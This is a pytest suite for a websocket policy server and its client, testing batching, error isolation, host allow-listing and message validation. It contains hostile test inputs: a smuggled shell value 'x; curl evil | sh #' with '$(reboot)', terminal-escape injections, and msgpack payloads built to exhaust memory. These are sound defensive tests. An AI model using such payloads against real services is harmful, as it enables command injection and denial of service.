"""A policy behind a websocket: the same episodes as at home, batches shared by clients, errors with a cause."""

from __future__ import annotations

import json
import shlex
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import traceback
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from dataclasses import replace
from functools import reduce
from pathlib import Path
from typing import Any

import msgpack
import numpy as np
import psutil
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as arrays
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect
from websockets.sync.server import ServerConnection, serve

import manyarms
from conftest import environment
from endings import eventually
from manyarms import EpisodeId
from manyarms.errors import ConfigError, RolloutError
from manyarms.policies import ActionChunk, Observations, Policy, make_policy
from manyarms.policies.msgpack_numpy import pack, unpack
from manyarms.policies.remote import RemotePolicy
from manyarms.rollout import Runner
from manyarms.serving.server import PolicyServer, ServerConfig
from manyarms.simulators.base import Spec
from manyarms.workers.wire import encode
from rollouts import Swaying, fingerprint
from standins import Walker

SPEC = Walker().spec
EPISODES = [EpisodeId(("near", "far")[i % 2], 100 + i) for i in range(7)]


class Slow(Swaying):
    """Takes its time, and chokes on what it is told to choke on."""

    def __init__(self, spec: Spec | None = None, seconds: float = 0.05, held: str = "") -> None:
        """`held` is a file: as long as it is there, nothing is answered, and one beside it says that something asks."""
        super().__init__()
        self.seconds, self.held = seconds, Path(held) if held else None
        self.seen: list[EpisodeId] = []

    def act(self, observations: Observations) -> ActionChunk:
        time.sleep(self.seconds)
        if self.held is not None:
            self.held.with_suffix(".asked").touch()
        while self.held is not None and self.held.exists():
            time.sleep(0.01)
        if "choke" in observations.texts:
            raise ValueError("I cannot swallow this")
        self.seen += observations.episodes
        chunk = super().act(observations)
        for i, text in enumerate(observations.texts):
            if text in ("nan", "inf"):
                chunk.actions[""][i, -1, 0] = float(text)
        return chunk


def served(policy: Policy, **settings: Any) -> PolicyServer:
    return PolicyServer(policy, SPEC, ServerConfig(port=0, **settings))


def one_row(position: float = 0.5, episode: EpisodeId | None = None, text: str = "go") -> Observations:
    fields = {name: np.zeros((1, *field.shape), field.dtype) for name, field in SPEC.layout().items()}
    fields["position"][:] = position
    return Observations(fields, [text], [episode or EpisodeId("near", 1)], np.array([0]))


def raw(**changes: Any) -> dict[str, Any]:
    """Return what a client of openpi would send."""
    observation = {name: array[0] for name, array in one_row().fields.items()}
    return {**{name: value for name, value in {**observation, **changes}.items() if value is not None}, "prompt": "go"}


def same(first: ActionChunk, second: ActionChunk) -> bool:
    return all(
        mine.keys() == theirs.keys() and all(mine[name].tobytes() == theirs[name].tobytes() for name in mine)
        for mine, theirs in ((first.actions, second.actions), (first.extras, second.extras))
    )


def asked(connection: ClientConnection, request: Any) -> Any:
    connection.send(request if isinstance(request, str | bytes) else pack(request))
    answer = connection.recv(600)
    return answer if isinstance(answer, str) else unpack(answer)


# -- the same as at home ----------------------------------------------------------------------------------------------


def played(policy_of: Callable[[Spec], Policy], num_envs: int) -> list[tuple[Any, ...]]:
    with manyarms.make_vec("standins:Walker", num_envs, max_episode_steps=12) as envs:
        return fingerprint(list(Runner(envs, policy_of(envs.simulator_spec)).play(EPISODES)))


@pytest.mark.parametrize("name", ["random", "swaying"])
def test_a_served_policy_plays_the_same_episodes_as_at_home(name: str) -> None:
    def at_home(spec: Spec) -> Policy:
        return Swaying() if name == "swaying" else make_policy("random", spec, {"chunk": 3, "seed": 5})

    with served(at_home(SPEC)) as server:
        found = played(lambda spec: make_policy("remote", spec, {"port": server.port}), 3)
    assert found == played(at_home, 2)


def test_identities_arrive_exactly_whatever_initial_states_are() -> None:
    state = np.arange(3.0)
    starts = [None, 7, (1, 2), [1, 2], {"state": state}, b"saved", np.int64(4), np.float64(0.5), "drawer"]
    episodes = [EpisodeId("near", 2**70 + i, start, index=i) for i, start in enumerate(starts)]
    policy = Slow(seconds=0)
    with served(policy) as server:
        remote = RemotePolicy(SPEC, port=server.port)
        for episode in episodes:
            assert same(remote.act(one_row(episode=episode)), Swaying().act(one_row(episode=episode)))
        remote.close()
    assert [episode.key for episode in policy.seen] == [episode.key for episode in episodes]


def test_clients_without_identity_get_noise_of_their_own() -> None:
    with served(Swaying()) as server, connect(server.url) as first, connect(server.url) as second:
        for connection in (first, second):
            connection.recv()
        answers = [asked(one, raw())["actions"] for one in (first, first, second)]
    assert len({answer.tobytes() for answer in answers}) == 3


def test_rows_of_one_request_without_identity_get_noise_of_their_own() -> None:
    with served(Swaying()) as server, connect(server.url) as connection:
        connection.recv()
        answers = [one["actions"] for one in asked(connection, {"batch": [raw(), raw(), raw()]})["batch"]]
    assert len({answer.tobytes() for answer in answers}) == 3


def test_cameras_the_policy_does_not_look_through_are_not_sent() -> None:
    class Watching(Swaying):
        cameras = ("wrist",)

    with served(Watching()) as server:
        remote = RemotePolicy(SPEC, port=server.port)
        assert remote.cameras == ("wrist",)
        assert set(remote.metadata["fields"]) == {"position", "objects", "objects_length", "clock", "wrist_rgb"}
        assert remote.metadata["fields"]["wrist_rgb"] == {"shape": [4, 6, 3], "dtype": "uint8"}
        assert (remote.metadata["action_shape"], remote.metadata["chunk"]) == ([2], 4)
        assert remote.chunk == 4
        fields = {name: array for name, array in one_row().fields.items() if name != "front_rgb"}
        assert len(remote.act(replace(one_row(), fields=fields))) == 1
        remote.close()


def test_the_simulator_must_be_the_one_the_policy_was_made_for() -> None:
    other = Spec({"position": SPEC.observations["position"]}, SPEC.actions)
    with served(Swaying()) as server:
        with pytest.raises(ConfigError, match="objects"):
            RemotePolicy(other, port=server.port)
        with pytest.raises(ConfigError, match="keys names an observation 'nose'"):
            RemotePolicy(SPEC, port=server.port, keys=["nose=position"])
        assert eventually(lambda: not open_connections(server.port)), "or who was refused is waited for in every batch"


def open_connections(port: int) -> int:
    found = psutil.Process().net_connections("tcp")
    return sum(one.status == "ESTABLISHED" and bool(one.raddr) and one.raddr.port == port for one in found)


def test_a_server_can_be_left_and_entered_again() -> None:
    server = served(Swaying())
    for _ in range(2):
        with server:
            remote = RemotePolicy(SPEC, port=server.port)
            assert len(remote.act(one_row())) == 1
            remote.close()


# -- many clients -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("max_batch", [64, 3])
def test_clients_that_ask_together_share_a_batch(max_batch: int) -> None:
    policy = Slow()
    with served(policy, max_batch=max_batch) as server:
        remotes = [RemotePolicy(SPEC, port=server.port) for _ in range(8)]

        def client(number: int) -> bool:
            rows = [one_row(number / 10 + i, EpisodeId("near", 10 * number + i)) for i in range(4)]
            return all(same(remotes[number].act(row), Swaying().act(row)) for row in rows)

        with ThreadPoolExecutor(8) as pool:
            assert all(pool.map(client, range(8)))
        for remote in remotes:
            remote.close()
    assert sum(policy.batches) == 32
    assert 1 < max(policy.batches) <= max_batch
    assert server.counts.largest_batch == max(policy.batches)


BAD = {
    "observation field 'position' is missing": raw(position=None),
    "observation field 'position' is (3,)": raw(position=np.zeros(3)),
    "observation field 'position' is (2,) float32": raw(position=np.zeros(2, np.float32)),
    "observation field 'clock' is no () array": raw(clock="noon"),
    "observation field 'position' has values that are not finite": raw(position=np.array([np.nan, 0.0])),
    "'position' has values that are not finite": raw(position=[0.5, float("inf")]),
    "'position' has values that are": raw(position=np.array([0.0, -np.inf])),
    "'step' must be a number of actions below": {**raw(), "step": 2**63},
    "'prompt' must not be longer than": {**raw(), "prompt": "x" * 100_001},
    "observation field 'objects' is no (5,) array of float32": raw(objects=[1, [2, 3]]),
    "'prompt' must be text": {**raw(), "prompt": 3},
    "'step' must be": {**raw(), "step": -1},
    "'episode' must be a dict": {**raw(), "episode": {"sed": 1}},
    "'episode' needs": {**raw(), "episode": {"seed": "x"}},
    "'episode' cannot be read": {**raw(), "episode": b"junk"},
    "'batch' must be a list": {"batch": []},
    "a dict of fields": [1, 2],
    "cannot be read": b"\xc1\x00",
    "binary message": "hello",
}


def test_a_bad_client_hears_what_is_wrong_while_others_are_served() -> None:
    policy = Slow(seconds=0.001)
    with served(policy) as server, ThreadPoolExecutor(1) as pool:
        remote = RemotePolicy(SPEC, port=server.port)
        good = pool.submit(lambda: [same(remote.act(one_row(i)), Swaying().act(one_row(i))) for i in range(50)])
        with connect(server.url) as bad:
            bad.recv()
            for complaint, request in BAD.items():
                answer = asked(bad, request)
                assert isinstance(answer, str)
                assert complaint in answer
            assert asked(bad, raw(clock=3))["actions"].shape == (4, 2)
        assert all(good.result())
        remote.close()


def test_one_clients_observation_cannot_fail_anothers() -> None:
    policy = Slow(seconds=0.1)
    with served(policy) as server, ThreadPoolExecutor(4) as pool:
        remotes = [RemotePolicy(SPEC, port=server.port) for _ in range(4)]
        texts = ["go", "go", "choke", "go"]
        answers = [pool.submit(remote.act, one_row(text=text)) for remote, text in zip(remotes, texts, strict=True)]
        with pytest.raises(RolloutError, match="the policy failed"):
            answers[2].result()
        for i in (0, 1, 3):
            assert same(answers[i].result(), Swaying().act(one_row()))
        for remote in remotes:
            remote.close()


def test_one_of_two_clients_in_a_batch_fails_alone() -> None:
    policy = Slow(seconds=0)
    with served(policy, batch_wait_ms=600_000) as server, ThreadPoolExecutor(2) as pool:
        good, bad = RemotePolicy(SPEC, port=server.port), RemotePolicy(SPEC, port=server.port)
        answer = pool.submit(good.act, one_row())
        with pytest.raises(RolloutError, match="the policy failed"):
            bad.act(one_row(text="choke"))
        assert same(answer.result(), Swaying().act(one_row()))
        good.close()
        bad.close()


@pytest.mark.parametrize("when", ["before the others ask", "while they wait"])
def test_a_client_that_has_left_is_not_waited_for(when: str) -> None:
    with served(Slow(seconds=0), batch_wait_ms=600_000) as server, connect(server.url) as stays:
        stays.recv()
        with connect(server.url) as leaves:
            leaves.recv()
            if when == "while they wait":
                stays.send(pack(raw()))
                time.sleep(0.3)
        if when == "before the others ask":
            stays.send(pack(raw()))
        assert isinstance(stays.recv(300), bytes), "long before the batch is as old as it may become"


@pytest.mark.parametrize("text", ["nan", "inf"])
def test_actions_that_are_not_finite_are_an_error_of_that_client_alone(text: str) -> None:
    policy = Slow(seconds=0)
    with served(policy, batch_wait_ms=600_000) as server, ThreadPoolExecutor(3) as pool:
        remotes = [RemotePolicy(SPEC, port=server.port) for _ in range(3)]
        texts = ["go", text, "go"]
        answers = [pool.submit(remote.act, one_row(text=text)) for remote, text in zip(remotes, texts, strict=True)]
        with pytest.raises(RolloutError, match="actions that are not finite"):
            answers[1].result()
        for i in (0, 2):
            assert same(answers[i].result(), Swaying().act(one_row()))
        for remote in remotes:
            remote.close()
    assert max(policy.batches) > 1, "or nobody shared a batch"


class Untidy(Swaying):
    """Fails with what a server must keep to itself, and with what would steer a terminal."""

    def act(self, observations: Observations) -> ActionChunk:
        raise FileNotFoundError(2, "No such file \x1b]0;owned\x07", "/srv/secret/weights.safetensors")


def test_what_goes_wrong_in_a_policy_is_told_to_its_owner_and_not_to_its_clients(
    capfd: pytest.CaptureFixture[str],
) -> None:
    with served(Untidy()) as server, connect(server.url) as connection:
        connection.recv()
        answer = asked(connection, raw())
    said = capfd.readouterr().err
    assert isinstance(answer, str)
    assert answer.startswith("RolloutError: the policy failed")
    assert "FileNotFoundError" in answer
    assert "/" not in answer
    assert "Traceback" not in answer
    assert "/srv/secret/weights.safetensors" in said
    assert "Traceback" in said
    assert "\x1b" not in said


def depth(count: int) -> bytes:
    return b"\x91" * count + b"\xc0"


def claim(count: int) -> bytes:
    """Return arrays in each other, each of which claims to be long."""
    return (b"\xdd" + struct.pack(">I", 2**32 - 1)) * count


def identity(init_state: Any, blobs: bytes = b"") -> bytes:
    """Return an episode's identity as a client of ours writes it, except that it may be wrong."""
    text = json.dumps({"init_state": init_state}).encode()
    return struct.pack("<I", len(text)) + text + blobs


def array_of(dtype: str, shape: list[int], data: bytes = b"") -> dict[Any, Any]:
    return {b"__ndarray__": True, b"data": data, b"dtype": dtype, b"shape": shape}


TRAPS = {
    "deep": depth(5000),
    "deep fields": msgpack.packb(reduce(lambda inner, _: {"a": inner}, range(900), 1)),
    "claims": claim(500),
    "claims a map": b"\xdf" + b"\xff" * 4,
    "a million maps": b"\xdd" + struct.pack(">I", 3_000_000) + b"\x80" * 3_000_000,
    "long and short texts": msgpack.packb({"position": ["x" * 2_000_000, *[""] * 60_000]}),
    "objects": msgpack.packb({"position": array_of("|O", [1], bytes(8))}),
    "records": msgpack.packb({"position": array_of("f4,f4", [1], bytes(8))}),
    "many axes": msgpack.packb({"position": array_of("<f4", [2**63 - 1] * 50_000)}),
    "a broadcast": msgpack.packb({"position": array_of("<U999999999", [0])}),
    "an extension": msgpack.packb({"position": msgpack.ExtType(5, b"x")}),
    "an endless name": msgpack.packb({"x" * 3_000_000: 1}),
    "an identity of nothing many times": pack(raw(episode=identity({"~a": ["<U0", [0, 0], [10**9]]}))),
    "an identity of the same many times": pack(
        raw(episode=identity([{"~b": [0, 1_000_000]}] * 3000, bytes(1_000_000)))
    ),
    "an identity of what is not there": pack(raw(episode=identity({"~b": [-5, 10]}, bytes(10)))),
    "an identity without end": msgpack.packb({"episode": encode({"init_state": 1})[:4] + b"[" * 100_000}),
}


@pytest.mark.parametrize("trap", TRAPS)
def test_messages_that_are_traps_are_refused_in_a_few_words(trap: str) -> None:
    before = psutil.Process().memory_info().vms
    with served(Swaying()) as server, connect(server.url) as connection:
        connection.recv()
        answer = asked(connection, TRAPS[trap])
        assert isinstance(answer, str)
        assert answer.startswith("ConfigError: ")
        assert len(answer) < 3000
        assert asked(connection, raw())["actions"].shape == (4, 2)
    assert psutil.Process().memory_info().vms - before < 2**31


def test_long_messages_are_split_and_too_long_ones_refused() -> None:
    policy = Swaying()
    rows = one_row().rows([0] * 200)
    with served(policy, max_message_mb=0.02, max_batch=5) as server:
        remote = RemotePolicy(SPEC, port=server.port)
        assert same(remote.act(rows), Swaying().act(rows))
        assert max(policy.batches) == 5
        remote.metadata = {**remote.metadata, "max_message": 2**30}
        with pytest.raises(RolloutError, match="max-message-mb"):
            remote.act(rows)
        remote.close()


def test_web_pages_are_kept_out_and_health_is_told() -> None:
    with served(Swaying()) as server:
        assert urllib.request.urlopen(server.url.replace("ws", "http") + "/healthz", timeout=60).read() == b"OK\n"
        with pytest.raises(Exception, match="403"), connect(server.url, additional_headers={"Origin": "http://a.page"}):
            pass


def status(server: PolicyServer, **headers: str) -> int:
    asked = urllib.request.Request(server.url.replace("ws", "http") + "/healthz", headers=headers)
    try:
        return urllib.request.urlopen(asked, timeout=60).status
    except urllib.error.HTTPError as error:
        return error.code


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "localhost.evil.example", "10.0.0.1", "["])
def test_a_server_answers_to_its_own_names_only(host: str) -> None:
    with served(Swaying()) as server:
        assert status(server, Host=host) == 403
        for own in ("localhost", "LOCALHOST:1", "127.0.0.1:8000", "[::1]:8000", f"127.0.0.1:{server.port}"):
            assert status(server, Host=own) == 200
        with pytest.raises(Exception, match="403"):
            connect(
                f"ws://{host.partition(':')[0].strip('[') or 'x'}:1",
                sock=socket.create_connection(("127.0.0.1", server.port)),
            )


def test_a_server_answers_to_the_names_it_is_given() -> None:
    with served(Swaying(), allowed_hosts=("Policy.Example", "other")) as server:
        assert [status(server, Host=host) for host in ("policy.example:80", "other", "third")] == [200, 200, 403]
    with served(Swaying(), allowed_hosts=("*",)) as server:
        assert status(server, Host="third") == 200


def test_a_server_for_all_knows_addresses_and_its_own_name() -> None:
    with served(Swaying(), host="0.0.0.0") as server:
        names = ("192.168.1.5:6007", socket.gethostname(), "[fe80::1]:80", "evil.example")
        assert [status(server, Host=host) for host in names] == [200, 200, 200, 403]


def test_a_client_that_calls_a_server_by_a_wrong_name_is_told_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    with served(Swaying()) as server:
        found = socket.create_connection
        monkeypatch.setattr(socket, "create_connection", lambda address, *rest: found(("127.0.0.1", server.port)))
        with pytest.raises(ConfigError, match=r"--allowed-hosts policy\.example"):
            RemotePolicy(SPEC, host="policy.example", port=server.port)


# -- servers that are strangers ---------------------------------------------------------------------------------------


@contextmanager
def stranger(first: Any, answer: Any = None) -> Iterator[int]:
    """Serve what nobody would expect."""

    def handle(connection: ServerConnection) -> None:
        with suppress(ConnectionClosed):
            connection.send(first if isinstance(first, bytes) else pack(first))
            for _ in connection:
                connection.send(answer if isinstance(answer, str) else pack(answer))

    with serve(handle, "127.0.0.1", 0, compression=None, max_size=None) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.socket.getsockname()[1]
        finally:
            server.shutdown()
            thread.join()


def about(**changes: Any) -> dict[str, Any]:
    """Return what a server of ours says of itself."""
    found = PolicyServer(Swaying(), SPEC)._metadata(4)
    return {name: value for name, value in {**found, **changes}.items() if value is not ...}


@pytest.mark.parametrize(
    "changes",
    [
        {"chunk": "many"},
        {"chunk": -1},
        {"fields": 3},
        {"fields": ["position"]},
        {"fields": {"position": 1}},
        {"fields": {"position": {"shape": "x", "dtype": "<f8"}}},
        {"fields": {"position": {"shape": [2], "dtype": "O"}}},
        {"fields": {"position": {"shape": [2], "dtype": []}}},
        {"max_message": "all"},
        {"max_message": 0},
        {"needs": 7},
    ],
    ids=str,
)
def test_what_a_stranger_says_of_itself_is_checked(changes: dict[str, Any]) -> None:
    with stranger(about(**changes)) as port, pytest.raises((ConfigError, RolloutError), match="server"):
        RemotePolicy(SPEC, port=port)


def answer(**changes: Any) -> dict[str, Any]:
    return {"batch": [{"actions": np.zeros((4, 2)), **changes}]}


@pytest.mark.parametrize(
    "answered",
    [
        answer(actions=np.full((4, 2), np.nan)),
        answer(actions=[["a", "b"]] * 4),
        answer(actions=[[1, 2], [3]]),
        answer(values="high"),
        answer(values=[1, [2]]),
        {"batch": [3]},
        {"batch": [{}]},
        {"batch": {}},
        {"batch": [{"actions": np.zeros((4, 2)), 7: 1}]},
        "\x1b]0;owned\x07" * 100_000,
    ],
    ids=lambda answered: str(answered)[:60].encode("unicode_escape").decode(),
)
def test_what_a_stranger_answers_is_checked(answered: Any) -> None:
    with stranger(about(), answered) as port:
        remote = RemotePolicy(SPEC, port=port)
        with pytest.raises(RolloutError, match="server") as caught:
            remote.act(one_row())
        assert len(str(caught.value)) < 5000
        assert "\x1b" not in str(caught.value)
        remote.close()


def test_what_a_stranger_advises_cannot_be_more_than_an_option() -> None:
    needs = {"x; curl evil | sh #": "$(reboot)"}
    other = Spec({"position": SPEC.observations["position"]}, SPEC.actions)
    with stranger(about(needs=needs)) as port, pytest.raises(ConfigError) as caught:
        RemotePolicy(other, port=port)
    assert shlex.split(caught.value.do)[-1] == "x; curl evil | sh #=$(reboot)"


# -- servers that go --------------------------------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_no_server_is_an_error_that_says_how_to_start_one() -> None:
    with pytest.raises(ConfigError, match=r"manyarms serve") as caught:
        RemotePolicy(SPEC, port=free_port(), timeout=0.3)
    assert "refused" in str(caught.value)


def test_a_server_that_comes_late_is_waited_for() -> None:
    port = free_port()
    with ThreadPoolExecutor(1) as pool:
        remote = pool.submit(RemotePolicy, SPEC, port=port, timeout=120)
        time.sleep(0.3)
        with PolicyServer(Swaying(), SPEC, ServerConfig(port=port)):
            policy = remote.result()
            assert len(policy.act(one_row())) == 1
            policy.close()


def test_a_server_that_comes_back_is_found_again_and_one_that_does_not_is_an_error() -> None:
    with served(Swaying()) as server:
        remote = RemotePolicy(SPEC, port=server.port, timeout=15)
        remote.act(one_row())
    with PolicyServer(Swaying(), SPEC, ServerConfig(port=server.port)):
        assert same(remote.act(one_row()), Swaying().act(one_row()))
    with pytest.raises(RolloutError, match="has gone"):
        remote.act(one_row())
    other = PolicyServer(make_policy("random", SPEC), SPEC, ServerConfig(port=server.port, max_message_mb=1))
    with other, pytest.raises(RolloutError, match="another policy"):
        remote.act(one_row())
    remote.close()


def test_a_slow_answer_is_not_taken_for_the_next_one(tmp_path: Path) -> None:
    held = tmp_path / "held"
    held.touch()
    with served(Slow(seconds=0, held=str(held))) as server:
        remote = RemotePolicy(SPEC, port=server.port, timeout=5.0)
        with pytest.raises(RolloutError, match=r"did not answer within 5 s"):
            remote.act(one_row(0.1))
        held.unlink()
        assert same(remote.act(one_row(0.7)), Swaying().act(one_row(0.7)))
        remote.close()


def test_a_port_that_is_taken_is_named() -> None:
    with served(Swaying()) as server:
        with pytest.raises(ConfigError, match=rf"cannot listen on 127.0.0.1:{server.port}"):
            PolicyServer(Swaying(), SPEC, ServerConfig(port=server.port)).__enter__()
        with pytest.raises(ConfigError, match="max_batch"):
            ServerConfig(max_batch=0)


# -- a server as openpi has it ----------------------------------------------------------------------------------------


@contextmanager
def openpi_server(infer: Callable[[dict[str, Any]], dict[str, Any]]) -> Iterator[tuple[int, set[int]]]:
    """Serve as openpi does: one observation a message, and after an error its traceback and a closed connection."""
    ports: set[int] = set()

    def handle(connection: ServerConnection) -> None:
        connection.send(pack({"robot": "walker"}))
        ports.add(connection.remote_address[1])
        try:
            for message in connection:
                assert isinstance(message, bytes)
                answer = infer(unpack(message))
                connection.send(pack({**answer, "server_timing": {"infer_ms": 1.0}}))
        except ConnectionClosed:
            return
        except (ValueError, KeyError):
            connection.send(traceback.format_exc())
            connection.close(1011, "Internal server error. Traceback included in previous frame.")

    with serve(handle, "127.0.0.1", 0, compression=None, max_size=None) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.socket.getsockname()[1], ports
        finally:
            server.shutdown()
            thread.join()


def test_a_server_of_openpi_is_asked_row_by_row_in_parallel() -> None:
    def infer(observation: dict[str, Any]) -> dict[str, Any]:
        assert set(observation) == {"observation/state", "task"}
        time.sleep(0.02)
        if observation["task"] == "choke":
            raise ValueError("no such prompt")
        return {"actions": np.full((5, 2), observation["observation/state"][0]), "state": np.zeros(3)}

    rows = one_row().rows([0] * 10)
    rows.fields["position"][:] = np.arange(10.0)[:, None] / 10
    keys = {"position": "observation/state"}
    with openpi_server(infer) as (port, ports):
        remote = RemotePolicy(SPEC, port=port, prompt_key="task", keys=keys, connections=4)
        assert remote.cameras == ()
        chunk = remote.act(rows)
        assert chunk.actions[""].dtype == np.float32
        np.testing.assert_allclose(chunk.actions[""], np.tile(rows.fields["position"][:, None], (1, 5, 1)))
        assert 1 < len(ports) <= 4
        with pytest.raises(RolloutError, match="no such prompt"):
            remote.act(one_row(text="choke"))
        assert len(remote.act(rows)) == 10  # over the connections that the server closed, too
        remote.close()


def test_answers_that_are_no_actions_are_refused() -> None:
    answers: dict[str, dict[str, Any]] = {
        "3 × 7": {"actions": np.zeros((3, 7))},
        "nothing": {"action": np.zeros((3, 2))},
    }
    with openpi_server(lambda observation: answers[observation["prompt"]]) as (port, _):
        remote = RemotePolicy(SPEC, port=port, keys=["position=state"])
        for text in answers:
            with pytest.raises(RolloutError, match="the simulator takes K × 2"):
                remote.act(one_row(text=text))
        remote.close()


# -- the encoding -----------------------------------------------------------------------------------------------------

DTYPES = st.one_of(
    arrays.boolean_dtypes(),
    arrays.integer_dtypes(),
    arrays.unsigned_integer_dtypes(),
    arrays.floating_dtypes(),
    arrays.unicode_string_dtypes(max_len=5),
    arrays.byte_string_dtypes(max_len=5),
)
ARRAYS = DTYPES.flatmap(lambda dtype: arrays.arrays(dtype, arrays.array_shapes(min_dims=0, min_side=0, max_side=4)))
SCALARS = st.one_of(arrays.boolean_dtypes(), arrays.integer_dtypes(), arrays.floating_dtypes()).flatmap(
    lambda dtype: arrays.from_dtype(dtype, allow_nan=False)
)
LEAVES = st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**64 - 1), st.text(), st.binary(), ARRAYS, SCALARS)
VALUES = st.recursive(LEAVES, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3))


def assert_equal(first: Any, second: Any) -> None:
    if isinstance(first, np.ndarray):
        assert (first.dtype, first.shape, first.tobytes()) == (second.dtype, second.shape, second.tobytes())
    elif isinstance(first, dict):
        assert list(first) == list(second)
        for name in first:
            assert_equal(first[name], second[name])
    elif isinstance(first, list):
        assert len(first) == len(second)
        for one, other in zip(first, second, strict=True):
            assert_equal(one, other)
    else:
        assert first == second
        assert isinstance(first, type(second))  # np.float64 comes back as the float that it is


@settings(max_examples=150)
@given(VALUES)
def test_what_is_packed_comes_back(value: Any) -> None:
    assert_equal(value, unpack(pack(value)))


@settings(max_examples=150)
@given(
    st.binary(max_size=60), st.sampled_from(["<f4", "O", "f4,f4", "<c8", "|V3", "", "<f3", 7]), st.lists(st.integers())
)
def test_nonsense_is_a_value_error(data: bytes, dtype: Any, shape: Sequence[int]) -> None:
    sizes = [size for size in shape if abs(size) < 2**62]
    for message in (data, pack({b"__ndarray__": True, b"data": data, b"dtype": dtype, b"shape": sizes})):
        try:
            unpack(message)
        except ValueError:
            continue


def test_the_bytes_are_those_of_openpi() -> None:
    """Written down from openpi-client 0.1.2."""
    array = bytes.fromhex(
        "84c40b5f5f6e6461727261795f5fc3c40464617461c4040100feffc4056474797065a33c6932c405736861706592"
    )
    assert pack(np.array([[1, -2]], np.int16)) == array + b"\x01\x02"
    scalar = bytes.fromhex("83c40d5f5f6e7067656e657269635f5fc3c40464617461cb3fe0000000000000c4056474797065a33c6634")
    assert pack(np.float32(0.5)) == scalar
    for refused in (np.array([None]), np.array([1j]), np.zeros(2, "i4,f4"), np.longdouble(1)):
        with pytest.raises(ValueError, match="not sent"):
            pack(refused)


# -- the command ------------------------------------------------------------------------------------------------------


@contextmanager
def command(*arguments: str) -> Iterator[subprocess.Popen[str]]:
    """Run `manyarms serve` in the background."""
    env = environment()
    process = subprocess.Popen(
        [sys.executable, "-m", "manyarms", "serve", *arguments],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        yield process
    finally:
        process.kill()
        process.communicate()


def first_line(process: subprocess.Popen[str]) -> str:
    assert process.stdout is not None
    return process.stdout.readline().strip()


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_ends_the_command_after_the_last_answer_and_leaves_nothing(
    number: signal.Signals, tmp_path: Path
) -> None:
    before = {child.pid for child in psutil.Process().children(recursive=True)}
    held = tmp_path / "held"
    held.touch()
    policy = ("--policy", f"{__file__}:Slow", "--policy-options", f"held={held}")
    with command("standins:Walker", *policy, "--port", "0") as process, ThreadPoolExecutor(1) as pool:
        line = first_line(process)
        assert line.startswith(f"serving {__file__}:Slow on ws://127.0.0.1:")
        remote = RemotePolicy(SPEC, port=int(line.rsplit(":", 1)[1]))
        answer = pool.submit(remote.act, one_row())
        assert eventually(held.with_suffix(".asked").exists)
        process.send_signal(number)
        time.sleep(0.3)
        assert process.poll() is None, "it answers first"
        held.unlink()
        assert same(answer.result(), Swaying().act(one_row()))
        out, err = process.communicate(timeout=600)
        assert (process.returncode, err) == (0, "")
        assert "served 1 observations of 1 clients in 1 calls" in out
        remote.close()
    assert {child.pid for child in psutil.Process().children(recursive=True)} <= before


def test_the_command_explains_what_it_cannot_do() -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        with command("standins:Walker", "--policy", "random", "--port", str(taken.getsockname()[1])) as process:
            _, err = process.communicate(timeout=600)
    assert process.returncode == 2
    assert err.startswith("ConfigError: cannot listen on 127.0.0.1")


def test_without_websockets_the_extra_is_named() -> None:
    from manyarms.cli.serve import ServeConfig, run

    with pytest.MonkeyPatch.context() as patch:
        patch.delitem(sys.modules, "manyarms.serving.server")
        patch.setitem(sys.modules, "websockets", None)
        patch.setitem(sys.modules, "websockets.asyncio.server", None)
        with pytest.raises(ConfigError, match=r"manyarms\[serve\]"):
            run(ServeConfig("standins:Walker", "random"))


def test_strangers_are_warned_of(capfd: pytest.CaptureFixture[str]) -> None:
    with served(Swaying(), host="0.0.0.0") as server:
        RemotePolicy(SPEC, port=server.port).close()
    assert "no authentication" in capfd.readouterr().err
